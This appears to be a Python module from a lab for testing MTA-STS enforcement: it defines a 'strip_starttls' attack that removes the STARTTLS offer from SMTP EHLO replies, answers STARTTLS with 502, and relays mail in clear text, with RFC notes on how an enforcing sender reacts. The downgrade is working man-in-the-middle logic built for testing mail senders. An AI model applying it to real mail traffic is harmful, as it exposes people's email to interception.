"""strip_starttls: the offer of STARTTLS disappears.

On the wire: every reply to EHLO reaches the sender without its STARTTLS line; everything else passes untouched, in
clear text, and is read. A STARTTLS sent all the same is answered with 502 and never reaches the receiver.

What it proves: opportunistic TLS protects against nobody who can write (RFC 3207, section 6). The sender cannot tell
this from a host without TLS, except by a policy that says otherwise.

A careful sender that holds an enforce policy sends no MAIL, leaves, tries other MX hosts, and keeps the message
(RFC 8461, section 5); under testing it delivers and reports `starttls-not-supported` (RFC 8460, section 4.3.1).
"""

from __future__ import annotations

from collections.abc import Iterator

from mta_sts_lab.attacks.attack import Parameters, SmtpAttack
from mta_sts_lab.attacks.clear_text import offers_starttls, relay_in_clear
from mta_sts_lab.attacks.edits import Line, untouched
from mta_sts_lab.attacks.instructions import Script
from mta_sts_lab.attacks.session import Session
from mta_sts_lab.attacks.smtp import Reply, keyword
from mta_sts_lab.model import AttackForm


def remove_starttls(genuine: Reply) -> Iterator[Line]:
    """Leave out every line that offers STARTTLS."""
    if not offers_starttls(genuine):
        yield from untouched(genuine)
        return
    yield Line(genuine.lines[0])
    for line in genuine.lines[1:]:
        yield Line("", altered=True, instead_of=line) if keyword(line) == "STARTTLS" else Line(line)


def play(session: Session, parameters: Parameters) -> Script:
    """Relay with the offer removed."""
    yield from relay_in_clear(session, remove_starttls, "removed STARTTLS from the reply to EHLO")


ATTACK = SmtpAttack(
    AttackForm("strip_starttls", "smtp", "removes STARTTLS from the reply to EHLO"),
    play,
)
